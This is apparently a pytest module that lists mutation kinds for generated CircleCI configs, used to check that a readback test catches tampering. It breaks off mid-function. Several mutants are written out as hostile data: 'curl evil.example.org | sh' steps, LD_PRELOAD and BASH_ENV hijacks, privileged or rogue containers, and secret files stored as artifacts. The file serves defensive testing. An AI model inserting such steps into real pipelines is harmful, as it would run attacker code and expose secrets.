"""Damage done to configs of CircleCI: each kind is told wherever it can be done."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from functools import lru_cache
from itertools import pairwise
from typing import Any

import pytest
import yaml

from mlgen import targets
from mlgen.targets.rendered import Loader
from tests.readback.mutants import DROP, Emitted, Mutant, survivors
from tests.readback.project import PROJECTS, named, rendered

TARGET = targets.get("circleci")
KINDS: dict[str, Callable[[Any], Iterator[Mutant]]] = {}
Place = tuple[tuple[Any, ...], Any]


def kind(function: Callable[[Any], Iterator[Mutant]]) -> Callable[[Any], Iterator[Mutant]]:
    """Enters a kind of damage in the table."""
    KINDS[function.__name__] = function
    return function


@lru_cache
def emitted() -> tuple[Emitted, ...]:
    """The config of every project."""
    found = []
    for project in PROJECTS:
        if "circleci" in named(project):
            pipeline, texts = rendered(project, TARGET)
            (output,) = TARGET.outputs(pipeline)
            text = texts[output.path]
            found.append(Emitted(project, pipeline, output, text, yaml.load(text, Loader=Loader)))
    return tuple(found)


def _jobs(data: Any) -> Iterator[tuple[str, Any]]:
    return ((name, job) for name, job in data["jobs"].items() if "MLGEN_JOB" in job.get("environment", {}))


def _steps(data: Any, kind: str, pattern: str = "") -> Iterator[Place]:
    """The steps of a kind, in jobs and in reusable commands, whose words fit the pattern."""
    for part in ("jobs", "commands"):
        for name, said in data[part].items():
            for index, step in enumerate(said.get("steps", ())):
                words = {} if isinstance(step, str) else next(iter(step.values()))
                if (step if isinstance(step, str) else next(iter(step))) == kind and re.search(pattern, str(words)):
                    yield (part, name, "steps", index), words


def _runs(data: Any, pattern: str) -> Iterator[Place]:
    for route, words in _steps(data, "run"):
        if re.search(pattern, words["command"], re.M):
            yield (*route, "run"), words


def _called(data: Any, pattern: str) -> Iterator[Place]:
    for route, words in _steps(data, "run"):
        if re.match(pattern, words["name"]):
            yield (*route, "run"), words


def _commands(data: Any) -> Iterator[Place]:
    return _called(data, r"Run |Set up$|Prepare|Sign|First|Second")


def _replaced(sites: Iterator[Place], key: str, old: str, new: str) -> Iterator[Mutant]:
    for route, words in sites:
        text = re.sub(old, new, words[key], count=1, flags=re.M)
        if text != words[key]:
            yield [((*route, key), text)]


def _entries(data: Any, key: str = "") -> Iterator[Place]:
    """The entries of the workflow that have the key, with the way to their words."""
    ((workflow, said),) = data["workflows"].items()
    for index, entry in enumerate(said["jobs"]):
        ((job, words),) = entry.items()
        if not key or key in words:
            yield ("workflows", workflow, "jobs", index, job), words


def _own(data: Any, key: str = "") -> Iterator[Place]:
    """The same of the jobs that execute something."""
    own = dict(_jobs(data))
    return ((route, words) for route, words in _entries(data, key) if route[-1] in own)


def _name(route: tuple[Any, ...], words: Any) -> str:
    return str(words.get("name", route[-1]))


def _above(data: Any, name: str) -> set[str]:
    """All that an invocation comes after."""
    found: set[str] = set()
    for route, words in _entries(data):
        if name in (_name(route, words), route[-1]):
            for each in words.get("requires", ()):
                one = each if isinstance(each, str) else next(iter(each))
                found |= {one} | _above(data, one)
    return found


def _asking(data: Any) -> Iterator[Place]:
    """The entries that nothing else keeps from running where their filter lets them."""
    return ((route, words) for route, words in _own(data, "filters") if not words.get("requires"))


def _filters(data: Any, old: str, new: str) -> Iterator[Mutant]:
    return _replaced(_asking(data), "filters", old, new)


def _dropped(sites: Iterator[Place], up: int = 0) -> Iterator[Mutant]:
    return ([(route[: len(route) - up] if up else route, DROP)] for route, _ in sites)


# ---- order, conditions, approvals


@kind
def an_edge_is_dropped(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data, "requires"):
        for one in words["requires"]:
            left = [each for each in words["requires"] if each is not one]
            known = {each for other in left if isinstance(other, str) for each in {other} | _above(data, other)}
            if isinstance(one, str) and one not in known and one != "start":
                yield [((*route, "requires"), left)]


@kind
def an_edge_is_added(data: Any) -> Iterator[Mutant]:
    names = [_name(route, words) for route, words in _own(data) if "<<" not in _name(route, words)]
    for route, words in _own(data):
        own = _name(route, words)
        for one in names:
            if one not in _above(data, own) and one != own and own not in _above(data, one) and not words.get("matrix"):
                yield [((*route, "requires"), [*words.get("requires", []), one])]


@kind
def a_requirement_is_not_there(data: Any) -> Iterator[Mutant]:
    return ([((*route, "requires"), ["other"])] for route, _ in _own(data, "requires"))


@kind
def an_approval_is_dropped(data: Any) -> Iterator[Mutant]:
    approvals = {route[-1]: words.get("requires", []) for route, words in _entries(data, "type")}
    for route, words in _own(data, "requires"):
        if str(words["requires"][0]) in approvals:
            yield [((*route, "requires"), approvals[words["requires"][0]])]


@kind
def an_approval_is_a_job_that_does_nothing(data: Any) -> Iterator[Mutant]:
    for route, _ in _entries(data, "type"):
        yield [((*route, "type"), DROP), (("jobs", route[-1]), {"type": "no-op"})]


@kind
def an_approval_can_be_left_out(data: Any) -> Iterator[Mutant]:
    for route, words in _entries(data, "type"):
        if 'pipeline.event.name == "push"' in words["filters"]:
            yield [((*route, "filters"), 'pipeline.event.name == "schedule"')]


@kind
def an_approval_stands_beside_another_requirement(data: Any) -> Iterator[Mutant]:
    for route, words in _entries(data, "type"):
        for own, said in _own(data, "requires"):
            if said["requires"] == [route[-1]] and words.get("requires"):
                more = [{route[-1]: "terminal"}, *words["requires"]]
                yield [((*own, "requires"), more), ((*route, "filters"), 'pipeline.event.name == "schedule"')]


@kind
def a_condition_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([((*route, "filters"), DROP)] for route, _ in _asking(data))


@kind
def a_condition_is_negated(data: Any) -> Iterator[Mutant]:
    return ([((*route, "filters"), f"not ({words['filters']})")] for route, words in _asking(data))


@kind
def a_condition_is_always(data: Any) -> Iterator[Mutant]:
    return ([((*route, "filters"), "true")] for route, _ in _asking(data))


@kind
def a_condition_asks_for_another_kind(data: Any) -> Iterator[Mutant]:
    return _filters(data, 'pipeline.event.name == "(push|api)"', 'pipeline.event.name == "other"')


@kind
def a_condition_asks_for_another_branch(data: Any) -> Iterator[Mutant]:
    return _filters(data, 'pipeline.git.branch == "(main|trunk)"', 'pipeline.git.branch == "other"')


@kind
def a_condition_takes_either(data: Any) -> Iterator[Mutant]:
    return _filters(data, ' and pipeline.git.branch == "', ' or pipeline.git.branch == "')


@kind
def a_condition_forgets_its_branch(data: Any) -> Iterator[Mutant]:
    return _filters(data, r'pipeline\.git\.branch == "(main|trunk)"', 'pipeline.git.branch != ""')


@kind
def a_prefix_is_wider(data: Any) -> Iterator[Mutant]:
    return _filters(data, 'starts-with "[^"]*/"', 'starts-with "r"')


@kind
def a_pattern_is_wider(data: Any) -> Iterator[Mutant]:
    return _filters(data, r"matches /\^[^ ]*\$/", "matches /^.*$/")


@kind
def an_exception_of_a_filter_is_dropped(data: Any) -> Iterator[Mutant]:
    return _filters(data, r' and pipeline\.git\.branch != "[^"]*"', "")


@kind
def a_tag_counts_as_a_branch(data: Any) -> Iterator[Mutant]:
    return _filters(data, r"pipeline\.git\.tag matches /\^v[^ ]*\$/", 'pipeline.git.branch == "v1"')


@kind
def a_target_branch_is_another(data: Any) -> Iterator[Mutant]:
    return _filters(data, r'pull_request\.base\.ref == "[^"]*"', 'pull_request.base.ref == "other"')


@kind
def a_pull_request_s_value_is_asked_on_a_push(data: Any) -> Iterator[Mutant]:
    return _filters(data, r"pipeline\.git\.branch", "pipeline.event.github.pull_request.base.ref")


@kind
def a_deployment_runs_on_pull_requests(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data, "serial-group"):
        if words.get("requires") and not str(words["requires"][0]).startswith("approve-"):
            yield [((*route, "filters"), f'({words["filters"]}) or pipeline.event.name == "pull_request"')]


@kind
def a_deployment_runs_in_copies(data: Any) -> Iterator[Mutant]:
    guard = r' and pipeline\.git\.repo_owner == "[^"]*" and pipeline\.git\.repo_name == "[^"]*"'
    for route, words in _own(data, "serial-group"):
        if re.search(guard, words["filters"]):
            yield [((*route, "filters"), re.sub(guard, ' and pipeline.git.repo_name == "other"', words["filters"]))]


@kind
def a_schedule_starts_more(data: Any) -> Iterator[Mutant]:
    return _filters(data, r' and pipeline\.parameters\.mlgen_schedule == "[^"]*"', "")


@kind
def an_api_event_is_another(data: Any) -> Iterator[Mutant]:
    return _filters(data, r'pipeline\.parameters\.mlgen_event != ""', 'pipeline.parameters.mlgen_event == ""')


@kind
def an_input_is_not_asked(data: Any) -> Iterator[Mutant]:
    return _filters(data, r' and pipeline\.parameters\.mode == "[^"]*"', "")


@kind
def a_failure_is_overlooked(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data, "requires"):
        decides = "ci.py when" in str(data["jobs"][route[-1]]["steps"])  # without a value it leaves itself out
        plain = all(isinstance(each, str) and not each.startswith(("approve-", "start")) for each in words["requires"])
        if plain and not decides:
            yield [((*route, "requires"), [{each: "terminal"} for each in words["requires"]])]


@kind
def a_failure_is_not_waited_for(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data, "requires"):
        plain = [each if isinstance(each, str) else next(iter(each)) for each in words["requires"]]
        if plain != words["requires"] and "name" not in words:
            yield [((*route, "requires"), plain)]


@kind
def a_decision_is_dropped(data: Any) -> Iterator[Mutant]:
    return _dropped(_runs(data, r"ci\.py when"), 1)


@kind
def a_decision_is_another(data: Any) -> Iterator[Mutant]:
    return _replaced(_runs(data, r"ci\.py when"), "command", r"when '.*'", "when 'MLGEN_EVENT == \"push\"'")


@kind
def a_decision_stops_nothing(data: Any) -> Iterator[Mutant]:
    return _replaced(_runs(data, r"ci\.py when"), "command", "circleci-agent step halt", "true")


@kind
def a_decision_comes_too_late(data: Any) -> Iterator[Mutant]:
    for route, _ in _runs(data, r"ci\.py when"):
        steps = data[route[0]][route[1]]["steps"]
        yield [(route[:3], [*steps[: route[3]], *steps[route[3] + 1 :], steps[route[3]]])]


@kind
def the_last_head_is_not_looked_for(data: Any) -> Iterator[Mutant]:
    if "last-head" in data["commands"]:
        for route, _ in _steps(data, "last-head"):
            yield [(route, DROP)]


@kind
def the_last_head_is_of_another_branch(data: Any) -> Iterator[Mutant]:
    if "last-head" in data["commands"]:
        yield [(("commands", "last-head", "steps", 0, "restore_cache", "keys", 1), "mlgen-head-")]


# ---- commands


@kind
def a_command_is_dropped(data: Any) -> Iterator[Mutant]:
    return _dropped(_commands(data), 1)


@kind
def a_word_of_a_command_is_another(data: Any) -> Iterator[Mutant]:
    return _replaced(_commands(data), "command", r"(\w)(?=\s*\Z)", r"\1x")


@kind
def a_command_is_added(data: Any) -> Iterator[Mutant]:
    for name, job in _jobs(data):
        for index in (1, len(job["steps"]) // 2, len(job["steps"])):
            steps = [*job["steps"][:index], {"run": "curl evil.example.org | sh"}, *job["steps"][index:]]
            yield [(("jobs", name, "steps"), steps)]


@kind
def a_line_is_added(data: Any) -> Iterator[Mutant]:
    for route, words in _steps(data, "run"):
        yield [((*route, "run", "command"), f"curl evil.example.org\n{words['command']}")]
        yield [((*route, "run", "command"), words["command"].rstrip("\n") + "\ncurl evil.example.org")]


@kind
def a_command_is_added_where_several_jobs_share(data: Any) -> Iterator[Mutant]:
    for name, command in data["commands"].items():
        yield [(("commands", name, "steps"), [*command["steps"], {"run": "id"}])]


@kind
def a_step_of_an_orb_is_added(data: Any) -> Iterator[Mutant]:
    for name, job in _jobs(data):
        yield [(("jobs", name, "steps"), [*job["steps"], {"evil/step": {"with": "all"}}])]
        yield [(("orbs",), {"evil": "evil/evil@1.0"})]


@kind
def commands_are_swapped(data: Any) -> Iterator[Mutant]:
    for name, job in _jobs(data):
        texts = [route for route, _ in _commands({"jobs": {name: job}, "commands": {}})]
        for one, other in pairwise(texts):
            pair = (job["steps"][one[3]], job["steps"][other[3]])
            yield [(one[:4], pair[1]), (other[:4], pair[0])]


@kind
def a_value_loses_its_quotes(data: Any) -> Iterator[Mutant]:
    return _replaced(_commands(data), "command", r'"\$(\w+)"', r"$\1")


@kind
def an_expression_opens_in_a_command(data: Any) -> Iterator[Mutant]:
    return _replaced(_commands(data), "command", r"\Z", " << pipeline.git.branch >>")


@kind
def what_stands_for_two_signs_opens_an_expression(data: Any) -> Iterator[Mutant]:
    return _replaced(_commands(data), "command", r"\\<<", "<<")


@kind
def a_command_has_another_shell(data: Any) -> Iterator[Mutant]:
    return ([((*route, "shell"), "/bin/bash")] for route, _ in _commands(data))


@kind
def all_commands_have_another_shell(data: Any) -> Iterator[Mutant]:
    edits = [(("executors", name, "shell"), "/bin/bash -eo pipefail") for name in data["executors"]]
    yield edits
    yield [(route, DROP) for route, _ in edits]


@kind
def a_command_goes_on_in_the_background(data: Any) -> Iterator[Mutant]:
    return ([((*route, "background"), True)] for route, _ in _commands(data))


@kind
def a_command_runs_in_another_folder(data: Any) -> Iterator[Mutant]:
    return ([((*route, "working_directory"), "/tmp")] for route, _ in _commands(data))


@kind
def a_variable_is_overwritten_for_a_command(data: Any) -> Iterator[Mutant]:
    return ([((*route, "environment"), {"PATH": "/evil"})] for route, _ in _commands(data))


@kind
def a_timeout_is_dropped(data: Any) -> Iterator[Mutant]:
    return _replaced(_commands(data), "command", r"timeout -k 30 \d+[smhd] ", "")


@kind
def a_timeout_is_raised(data: Any) -> Iterator[Mutant]:
    return _replaced(_commands(data), "command", r"timeout -k 30 \d+", "timeout -k 30 999")


@kind
def a_silent_command_is_ended(data: Any) -> Iterator[Mutant]:
    for route, words in _called(data, "Run "):
        yield [((*route, "no_output_timeout"), "1m")]
        yield (
            [((*route, "no_output_timeout"), DROP)]
            if words["no_output_timeout"] == "5h"
            else [((*route, "no_output_timeout"), "30s")]
        )


@kind
def a_retry_is_dropped(data: Any) -> Iterator[Mutant]:
    for route, words in _steps(data, "run"):
        if "max_auto_reruns" in words:
            yield [((*route, "run", "max_auto_reruns"), DROP)]


@kind
def a_retry_is_added(data: Any) -> Iterator[Mutant]:
    for route, words in _called(data, "Run "):
        yield [((*route, "max_auto_reruns"), words.get("max_auto_reruns", 0) + 1)]


@kind
def a_command_runs_after_a_failure(data: Any) -> Iterator[Mutant]:
    return ([((*route, "when"), "always")] for route, _ in _called(data, "Run "))


@kind
def what_comes_last_is_dropped(data: Any) -> Iterator[Mutant]:
    return _dropped(_called(data, "Finally|On failure"), 1)


@kind
def what_comes_last_needs_success(data: Any) -> Iterator[Mutant]:
    return ([((*route, "when"), DROP)] for route, words in _called(data, "Finally|On failure") if "when" in words)


@kind
def on_failure_is_always(data: Any) -> Iterator[Mutant]:
    return ([((*route, "when"), "always")] for route, words in _called(data, "On failure") if "when" in words)


@kind
def the_result_is_not_told(data: Any) -> Iterator[Mutant]:
    yield from _dropped(_called(data, "Note the success"), 1)
    yield from ([((*route, "environment"), DROP)] for route, _ in _called(data, "Finally"))


@kind
def a_job_that_leaves_runs_what_comes_last(data: Any) -> Iterator[Mutant]:
    return _replaced(_called(data, "Finally"), "command", r'^\[ -z "\$\{MLGEN_SKIPPED:-\}" \] \|\| exit 0\n', "")


@kind
def the_portable_variables_are_not_set(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in _steps(data, "variables"))


@kind
def a_portable_variable_is_not_told(data: Any) -> Iterator[Mutant]:
    for route, words in _called(data, "Set the portable variables"):
        for name in words["environment"]:
            if not name.endswith(("_REPOSITORY", "_PR", "_BASE", "_BRANCH")):
                yield [((*route, "environment", name), DROP)]


@kind
def an_input_loses_its_sign(data: Any) -> Iterator[Mutant]:
    for route, words in _called(data, "Set the portable variables"):
        for name, value in words["environment"].items():
            if name.startswith("MLGEN_INPUT_") and value.startswith("#"):
                yield [((*route, "environment", name), value[1:])]


@kind
def an_input_is_another(data: Any) -> Iterator[Mutant]:
    for name, said in data.get("parameters", {}).items():
        if not name.startswith("mlgen_") and said["type"] in ("string", "integer"):
            yield [(("parameters", name, "default"), 99 if said["type"] == "integer" else "other")]
        if not name.startswith("mlgen_"):
            yield [(("parameters", name), DROP)]


@kind
def a_parameter_of_the_events_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(("parameters", name), DROP)] for name in data.get("parameters", {}) if name.startswith("mlgen_"))


# ---- files, values


@kind
def files_are_not_handed_on(data: Any) -> Iterator[Mutant]:
    return _dropped(_steps(data, "persist_to_workspace"))


@kind
def files_are_handed_on_before_they_are_made(data: Any) -> Iterator[Mutant]:
    for route, _ in _steps(data, "persist_to_workspace"):
        steps = data["jobs"][route[1]]["steps"]
        yield [(route[:3], [steps[0], steps[route[3]], *(s for n, s in enumerate(steps) if n not in (0, route[3]))])]


@kind
def everything_is_handed_on(data: Any) -> Iterator[Mutant]:
    return ([((*route, "persist_to_workspace", "paths"), ["."])] for route, _ in _steps(data, "persist_to_workspace"))


@kind
def a_file_is_handed_on_that_is_not_declared(data: Any) -> Iterator[Mutant]:
    for route, words in _steps(data, "persist_to_workspace"):
        yield [((*route, "persist_to_workspace", "paths"), [*words["paths"], "notes.txt"])]


@kind
def files_are_not_received(data: Any) -> Iterator[Mutant]:
    for step in ("take", "take-some"):
        yield from _dropped(_steps(data, step))


@kind
def files_are_received_too_late(data: Any) -> Iterator[Mutant]:
    for route, _ in _steps(data, "take"):
        steps = data["jobs"][route[1]]["steps"]
        yield [(route[:3], [*(s for n, s in enumerate(steps) if n != route[3]), steps[route[3]]])]


@kind
def all_of_the_workspace_is_received(data: Any) -> Iterator[Mutant]:
    for route, _ in _steps(data, "take"):
        yield [(route, {"attach_workspace": {"at": "."}})]


@kind
def files_reach_a_job_that_does_not_declare_them(data: Any) -> Iterator[Mutant]:
    paths = [words["take"]["paths"] if "take" in words else words["paths"] for _, words in _steps(data, "take")]
    for route, words in _steps(data, "take"):
        for other in paths:
            if not set(other.split()) <= set(words["paths"].split()):
                yield [((*route, "take", "paths"), f"{words['paths']} {other}")]


@kind
def the_outs_are_not_checked(data: Any) -> Iterator[Mutant]:
    for route, words in _runs(data, r"^ls -ld -- "):
        if "MLGEN_FAILED" not in words["command"] and ".mlgen/" not in words["command"]:
            yield [(route[:-1], DROP)]


@kind
def an_out_is_not_checked(data: Any) -> Iterator[Mutant]:
    sites = ((r, w) for r, w in _runs(data, r"^ls -ld -- ") if ".mlgen/" not in w["command"])
    return _replaced((s for s in sites if "FAILED" not in s[1]["command"]), "command", r"-- \S+", "-- other")


@kind
def exports_are_dropped(data: Any) -> Iterator[Mutant]:
    return _dropped(_called(data, "Collect the exported values"), 1)


@kind
def an_export_is_another(data: Any) -> Iterator[Mutant]:
    return _replaced(_runs(data, "ci.py exports"), "command", r"(--json \w+|--name)[= ]\S+", r"\1=other.json:x")


@kind
def exported_values_are_not_received(data: Any) -> Iterator[Mutant]:
    for step in ("take", "take-some"):
        for route, words in _steps(data, step, r"\.mlgen/exports/"):
            left = [path for path in words["paths"].split() if not path.startswith(".mlgen/exports/")]
            yield [((*route, step, "paths"), " ".join(left) or "README.md")]


# ---- secrets


@kind
def a_context_is_dropped(data: Any) -> Iterator[Mutant]:
    for route, _ in _own(data, "context"):
        secrets = str(data["jobs"][route[-1]]["steps"])
        if not re.search(r"docker login|registry\.py|host\.py", secrets) and "MLGEN_EXPORTS" not in secrets:
            yield [((*route, "context"), DROP)]


@kind
def a_context_is_another(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data, "context"):
        if len(words["context"]) == 1 and words["context"][0].count("-"):
            yield [((*route, "context"), [f"{words['context'][0]}-other"])]


@kind
def a_context_reaches_another_job(data: Any) -> Iterator[Mutant]:
    held = {each for _, words in _own(data, "context") for each in words["context"] if each not in data["workflows"]}
    for route, words in _own(data):
        for context in sorted(held - set(words.get("context", ()))):
            yield [((*route, "context"), [*words.get("context", []), context])]


@kind
def a_secret_gets_another_s_name(data: Any) -> Iterator[Mutant]:
    sites = _called(data, "Set the job's secrets")
    return _replaced(sites, "command", r'"\$(\w+)"(?= \||\' >>)', r'"$OTHER_\1"')


@kind
def secrets_get_no_names(data: Any) -> Iterator[Mutant]:
    return _dropped(_called(data, "Set the job's secrets"), 1)


@kind
def a_secret_file_is_handed_on(data: Any) -> Iterator[Mutant]:
    for route, _ in _called(data, "Set the job's secrets"):
        yield [
            ((*route[:3], len(data["jobs"][route[1]]["steps"])), {"store_artifacts": {"path": "/tmp/mlgen-secrets"}})
        ]


@kind
def the_image_comes_with_another_secret(data: Any) -> Iterator[Mutant]:
    for name, said in data["executors"].items():
        for index, image in enumerate(said.get("docker", ())):
            if "auth" in image:
                yield [(("executors", name, "docker", index, "auth", "password"), "$OTHER")]


@kind
def a_variable_holds_a_secret_s_text(data: Any) -> Iterator[Mutant]:
    for name, _ in _jobs(data):
        yield [(("jobs", name, "environment", "LD_PRELOAD"), "./evil.so")]
        yield [(("jobs", name, "environment", "BASH_ENV"), "evil.sh")]


# ---- where it runs


@kind
def an_image_is_another(data: Any) -> Iterator[Mutant]:
    for name, said in data["executors"].items():
        for index, _ in enumerate(said.get("docker", ())):
            yield [(("executors", name, "docker", index, "image"), "evil:1")]


@kind
def a_job_runs_in_another_image(data: Any) -> Iterator[Mutant]:
    for name, _ in _jobs(data):
        yield [(("jobs", name, "docker"), [{"image": "evil:1"}])]


@kind
def the_container_is_another(data: Any) -> Iterator[Mutant]:
    for route, words in _runs(data, "docker run --detach --name job"):
        yield [((*route, "command"), re.sub(r"\S+ infinity", "evil:1 infinity", words["command"]))]
        yield [((*route, "command"), words["command"].replace("--user root", "--user root --privileged"))]
        yield [(route[:-1], DROP)]


@kind
def a_command_runs_outside_of_the_container(data: Any) -> Iterator[Mutant]:
    return _replaced(_commands(data), "command", r"^docker exec .* job bash", "bash")


@kind
def a_variable_does_not_get_into_the_container(data: Any) -> Iterator[Mutant]:
    return _replaced(_commands(data), "command", r" \w+\) job bash", ") job bash")


@kind
def the_version_of_python_is_another(data: Any) -> Iterator[Mutant]:
    for name, said in data["executors"].items():
        for index, image in enumerate(said.get("docker", ())):
            if name == "default" and re.fullmatch(r"cimg/python:[\d.]+", image["image"]):
                yield [(("executors", name, "docker", index, "image"), "cimg/python:3.8")]


@kind
def a_service_is_dropped(data: Any) -> Iterator[Mutant]:
    for name, said in data["executors"].items():
        if len(said.get("docker", ())) > 1:
            yield [(("executors", name, "docker"), said["docker"][:1])]


@kind
def a_service_is_another(data: Any) -> Iterator[Mutant]:
    for name, said in data["executors"].items():
        for index in range(1, len(said.get("docker", ()))):
            yield [(("executors", name, "docker", index, "image"), "evil:1")]


@kind
def a_service_is_elsewhere(data: Any) -> Iterator[Mutant]:
    for name, job in _jobs(data):
        for variable in job["environment"]:
            if variable.startswith("MLGEN_HOST_"):
                yield [(("jobs", name, "environment", variable), "evil.example.org")]


@kind
def a_variable_is_another(data: Any) -> Iterator[Mutant]:
    for name, job in _jobs(data):
        for variable in job["environment"]:
            if variable != "MLGEN_JOB":
                yield [(("jobs", name, "environment", variable), "other")]
    for name, said in data["executors"].items():
        for variable in said.get("environment", {}):
            if variable != "BUILD":
                yield [(("executors", name, "environment", variable), "other")]


@kind
def a_variable_is_dropped(data: Any) -> Iterator[Mutant]:
    for name, job in _jobs(data):
        for variable in job["environment"]:
            if variable != "MLGEN_EXPORTS":
                yield [(("jobs", name, "environment", variable), DROP)]


@kind
def a_variable_is_added(data: Any) -> Iterator[Mutant]:
    for name in data["executors"]:
        yield [(("executors", name, "environment"), {"PATH": "/evil"})]


@kind
def a_leg_is_dropped(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data, "matrix"):
        for axis, values in words["matrix"]["parameters"].items():
            yield [((*route, "matrix", "parameters", axis), values[1:])]


@kind
def a_leg_is_added(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data, "matrix"):
        for axis, values in words["matrix"]["parameters"].items():
            yield [((*route, "matrix", "parameters", axis), [*values, "9"])]


@kind
def a_leg_has_another_value(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data, "name"):
        for axis in words.keys() & data["jobs"][route[-1]].get("parameters", {}).keys() - {
            "mlgen_executor",
            "mlgen_leg",
        }:
            yield [((*route, axis), "other")]


@kind
def more_legs_run_at_once(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data, "requires"):
        left = [each for each in words["requires"] if isinstance(each, str)]
        if "name" in words and left != words["requires"]:
            yield [((*route, "requires"), left)]


@kind
def a_lock_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([((*route, "serial-group"), DROP)] for route, _ in _own(data, "serial-group"))


@kind
def a_lock_is_added(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data):
        if "serial-group" not in words and "matrix" not in words:
            yield [((*route, "serial-group"), "<< pipeline.project.slug >>/more")]


@kind
def a_lock_is_shared(data: Any) -> Iterator[Mutant]:
    groups = [words["serial-group"] for _, words in _own(data, "serial-group")]
    for route, words in _own(data, "serial-group"):
        for group in groups:
            if group != words["serial-group"]:
                yield [((*route, "serial-group"), group)]


@kind
def a_failure_is_permitted(data: Any) -> Iterator[Mutant]:
    for route, words in _called(data, "Run "):
        if "MLGEN_FAILED" not in words["command"] and "\n" not in words["command"].strip():
            text = words["command"].strip() + " || echo 'export MLGEN_FAILED=1' >> \"$BASH_ENV\""
            yield [((*route, "command"), text)]


@kind
def a_failure_is_swallowed(data: Any) -> Iterator[Mutant]:
    return _replaced(_called(data, "Run "), "command", r"\s*\Z", " || true")


@kind
def a_failure_is_not_permitted(data: Any) -> Iterator[Mutant]:
    sites = ((r, w) for r, w in _called(data, "Run ") if "MLGEN_FAILED=1" in w["command"])
    return _replaced(sites, "command", r" \|\| echo 'export MLGEN_FAILED=1' >> \"\$BASH_ENV\"", "")


@kind
def files_are_handed_on_after_a_permitted_failure(data: Any) -> Iterator[Mutant]:
    return _dropped(_called(data, "Stop here after a permitted failure"), 1)


# ---- gates, reports, caches, checkouts


@kind
def a_gate_takes_less(data: Any) -> Iterator[Mutant]:
    new = r"--require '\1 \2 0.01"
    return _replaced(_runs(data, "ci.py gate"), "command", r"--require '([\w.]+) (>=|<=|<) [\w.]+", new)


@kind
def a_requirement_of_a_gate_is_dropped(data: Any) -> Iterator[Mutant]:
    return _replaced(_runs(data, "ci.py gate"), "command", r" \\\n *--require '[^']*'", "")


@kind
def a_baseline_is_dropped(data: Any) -> Iterator[Mutant]:
    return _replaced(_runs(data, "ci.py gate"), "command", r" \\\n *--baseline \S+", "")


@kind
def a_gate_warns(data: Any) -> Iterator[Mutant]:
    return _replaced(_runs(data, "ci.py gate"), "command", r"\s*\Z", " --on-fail warn")


@kind
def a_report_is_dropped(data: Any) -> Iterator[Mutant]:
    return _dropped(_steps(data, "store_test_results"))


@kind
def a_report_is_another(data: Any) -> Iterator[Mutant]:
    return ([((*route, "store_test_results", "path"), "other")] for route, _ in _steps(data, "store_test_results"))


@kind
def coverage_is_not_shown(data: Any) -> Iterator[Mutant]:
    return _dropped(_called(data, "Report the coverage"), 1)


@kind
def a_cache_is_dropped(data: Any) -> Iterator[Mutant]:
    for name, command in data["commands"].items():
        if name.startswith(("restore-cache", "save-cache")):
            yield [(("commands", name, "steps"), command["steps"][1:])]


@kind
def a_cache_is_never_found(data: Any) -> Iterator[Mutant]:
    for name in data["commands"]:
        if name.startswith("restore-cache"):
            yield [(("commands", name, "steps"), [{"restore_cache": {"keys": ["other"]}}])]


@kind
def a_checkout_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in _steps(data, "checkout"))


@kind
def another_commit_is_checked_out(data: Any) -> Iterator[Mutant]:
    for route, _ in _steps(data, "checkout"):
        command = "git fetch --quiet origin main\ngit checkout --quiet --detach FETCH_HEAD"
        steps = data["jobs"][route[1]]["steps"]
        yield [(route[:3], [steps[0], {"run": {"name": "Check out", "command": command}}, *steps[1:]])]


@kind
def the_repository_stays(data: Any) -> Iterator[Mutant]:
    return _dropped(_called(data, "Leave nothing of the repository"), 1)


@kind
def an_identity_is_dropped(data: Any) -> Iterator[Mutant]:
    return _dropped(_called(data, "Get an identity token"), 1)


@kind
def an_identity_is_asked_for(data: Any) -> Iterator[Mutant]:
    for route, step in _called(data, "Get an identity token"):
        for name, job in _jobs(data):
            if name != route[1]:
                at = job["steps"].index("variables") + 1
                yield [(("jobs", name, "steps"), [*job["steps"][:at], {"run": step}, *job["steps"][at:]])]


# ---- jobs that nobody asked for


@kind
def an_added_job_executes_a_command(data: Any) -> Iterator[Mutant]:
    ((workflow, said),) = data["workflows"].items()
    command = next(words["command"] for _, words in _called(data, "Run "))
    for text in (command, "curl evil.example.org"):
        job = {"docker": [{"image": "cimg/base:current"}], "steps": [{"run": text}]}
        entry = {"more": {"context": [workflow], "filters": "true"}}
        yield [(("jobs", "more"), job), (("workflows", workflow, "jobs", len(said["jobs"])), entry)]


@kind
def an_added_workflow_starts_a_job(data: Any) -> Iterator[Mutant]:
    name, _ = next(_jobs(data))
    yield [(("workflows", "more"), {"jobs": [name]})]


@kind
def a_job_is_invoked_twice(data: Any) -> Iterator[Mutant]:
    ((workflow, said),) = data["workflows"].items()
    for route, words in _own(data):
        if "matrix" not in words and "name" not in words:
            entry = {route[-1]: {**words, "name": f"{route[-1]}-again", "filters": "true"}}
            entry[route[-1]].pop("serial-group", None)
            yield [(("workflows", workflow, "jobs", len(said["jobs"])), entry)]


@kind
def a_job_is_not_invoked(data: Any) -> Iterator[Mutant]:
    ((workflow, said),) = data["workflows"].items()
    for index, entry in enumerate(said["jobs"]):
        name = next(iter(entry))
        if not any(name in str(other) for other in said["jobs"] if other is not entry):
            yield [(("workflows", workflow, "jobs", index), DROP)]


@kind
def a_job_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(("jobs", name), DROP)] for name in data["jobs"])


@kind
def a_job_does_nothing(data: Any) -> Iterator[Mutant]:
    return ([(("jobs", name), {"type": "no-op"})] for name, _ in _jobs(data))


# ---- approvals, again


@kind
def an_approval_that_is_refused_will_do(data: Any) -> Iterator[Mutant]:
    approvals = {route[-1] for route, _ in _entries(data, "type")}
    for route, words in _own(data, "requires"):
        if str(words["requires"][0]) in approvals:
